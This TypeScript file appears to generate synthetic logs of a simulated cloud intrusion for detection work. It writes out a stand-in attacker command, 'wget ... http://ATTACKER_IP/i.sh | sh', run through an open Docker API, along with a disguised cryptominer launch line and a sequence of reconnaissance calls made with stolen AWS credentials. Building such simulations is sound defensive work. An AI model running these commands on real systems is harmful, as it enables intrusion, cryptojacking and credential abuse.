import { roleCall } from './cloudtrail.js'
import { busy, engineEvent, minute } from './normal.js'
import type { Random } from './random.js'
import type { Line } from './recording.js'
import {
  API_ID,
  ATTACKER_IP,
  api,
  connection,
  DAY,
  HOUR,
  launch,
  MINUTE,
  measured,
  POOL_IP,
  START,
  vm,
} from './world.js'

/** When the attack begins: at night of the second day. Ordinary life goes on around it. */
const ATTACK_START = START + DAY + 2 * HOUR
const ATTACK_MINUTES = 12

const SHELL = { parent: 'sh', parent_path: '/bin/sh' }

/** Two hours of the second night, quiet. */
export function quietNight(random: Random, say: (line: Line) => void) {
  for (let time = START + DAY; time < ATTACK_START; time += MINUTE) minute(random, time, say)
}

/** The attack, minute by minute, with the ordinary life of the other workloads. */
export function attack(random: Random, say: (line: Line) => void) {
  for (let n = 0; n < ATTACK_MINUTES; n++) {
    const time = ATTACK_START + n * MINUTE
    minute(random, time, (line) => {
      // The miner takes the processor: the container's own measurements of these minutes are replaced below.
      if (n >= 2 && isMetricOf(line, api.uid)) return
      say(line)
    })
    if (n >= 2) mine(random, time, say)
  }
  breakIn(random, ATTACK_START + 40_000, say)
  steal(random, ATTACK_START + 6 * MINUTE + 5_000, say)
}

function isMetricOf(line: Line, uid: string): boolean {
  const event = line.data as { metrics?: unknown; workload?: { uid: string } }
  return event.metrics !== undefined && event.workload?.uid === uid
}

/** T1610/T1609: a stranger talks to the Docker API that listens without TLS, and runs a command in the shop's container. */
function breakIn(random: Random, start: number, say: (line: Line) => void) {
  const ocsf = (offset: number, build: (time: number) => object) =>
    say({ time: start + offset, format: 'ocsf', data: build(start + offset) })
  for (const [n, offset] of [0, 1_400, 2_600, 9_000].entries()) {
    ocsf(offset, (time) =>
      connection(random, vm, time, {
        direction: 'in',
        peer: ATTACKER_IP,
        peer_port: 51_000 + n,
        port: 2375,
        process: 'dockerd',
        path: '/usr/bin/dockerd',
      }),
    )
  }
  const command = `sh -c "wget -qO- http://${ATTACKER_IP}/i.sh | sh"`
  const named = { image: 'registry.shop.example/shop-api:2.3.1', name: 'shop-api', execID: random.hex(64) }
  for (const [n, action] of [`exec_create: ${command}`, `exec_start: ${command}`].entries()) {
    const time = start + 9_400 + n * 200
    say({ time, format: 'docker_events', data: engineEvent(random, time, action, API_ID, named) })
  }
  const run = (offset: number, path: string, args: string, parent: { parent: string; parent_path: string }) =>
    ocsf(offset, (time) => launch(random, api, time, { path, args, ...parent }))
  run(9_700, '/bin/sh', `-c "wget -qO- http://${ATTACKER_IP}/i.sh | sh"`, {
    parent: 'runc',
    parent_path: '/usr/bin/runc',
  })
  run(9_800, '/usr/bin/wget', `-qO- http://${ATTACKER_IP}/i.sh`, SHELL)
  ocsf(9_900, (time) =>
    connection(random, api, time, {
      direction: 'out',
      peer: ATTACKER_IP,
      peer_port: 80,
      port: 41_220,
      process: 'wget',
      path: '/usr/bin/wget',
    }),
  )
  run(12_500, '/usr/bin/wget', `-qO /tmp/.x/kworkerd http://${ATTACKER_IP}/k`, SHELL)
  run(14_000, '/bin/chmod', '+x /tmp/.x/kworkerd', SHELL)
  run(14_300, '/tmp/.x/kworkerd', `-o stratum+tcp://${POOL_IP}:3333 -u 44AFFq5kSiGBoZ -p x --donate-level 1 -B`, SHELL)
  ocsf(15_000, (time) =>
    connection(random, api, time, {
      direction: 'out',
      peer: POOL_IP,
      peer_port: 3333,
      port: 41_300,
      process: 'kworkerd',
      path: '/tmp/.x/kworkerd',
    }),
  )
}

/** T1496: the miner takes what it gets and reconnects to its pool now and then. */
function mine(random: Random, time: number, say: (line: Line) => void) {
  const shop = 9_000 + 60_000 * busy(time)
  const event = measured(api, time, {
    cpu_percent: random.around(188, 3),
    memory_percent: random.around(44, 0.6),
    network_in_bytes_per_s: random.around(shop, shop / 10),
    network_out_bytes_per_s: random.around(shop * 1.4 + 900, shop / 8),
    process_count: 8,
  })
  say({ time, format: 'ocsf', data: event })
  const at = time + random.int(10_000, 50_000)
  say({
    time: at,
    format: 'ocsf',
    data: connection(random, api, at, {
      direction: 'out',
      peer: POOL_IP,
      peer_port: 3333,
      port: random.int(41_301, 41_900),
      process: 'kworkerd',
      path: '/tmp/.x/kworkerd',
    }),
  })
}

/** T1078.004, T1580: the function's credentials in a stranger's hands; each call is new for this role. */
function steal(random: Random, start: number, say: (line: Line) => void) {
  const calls: [string, string, boolean, string?][] = [
    ['sts', 'GetCallerIdentity', true],
    ['s3', 'ListBuckets', true],
    ['iam', 'ListUsers', true, 'AccessDenied'],
    ['iam', 'ListRoles', true, 'AccessDenied'],
    ['iam', 'ListAttachedRolePolicies', true],
    ['ec2', 'DescribeInstances', true],
    ['ec2', 'DescribeSecurityGroups', true],
    ['lambda', 'ListFunctions20150331', true],
    ['secretsmanager', 'ListSecrets', true],
    ['iam', 'CreateAccessKey', false, 'AccessDenied'],
    ['iam', 'CreateUser', false, 'AccessDenied'],
    ['ec2', 'RunInstances', false, 'Client.UnauthorizedOperation'],
  ]
  // Stolen credentials are tried out quickly: several rounds within three minutes.
  for (let round = 0; round < 3; round++) {
    for (const [n, [service, operation, read_only, code]] of calls.entries()) {
      const time = Math.floor((start + round * 55_000 + n * 4_000) / 1_000) * 1_000
      const error = code
        ? { error: { code, message: `User is not authorized to perform: ${service}:${operation}` } }
        : {}
      const data = roleCall(random, time, {
        service,
        operation,
        read_only,
        ip: ATTACKER_IP,
        user_agent: 'aws-cli/2.31.4 Python/3.13.7 Linux/6.12 exe/x86_64',
        ...error,
      })
      say({ time, format: 'cloudtrail', data })
    }
  }
}
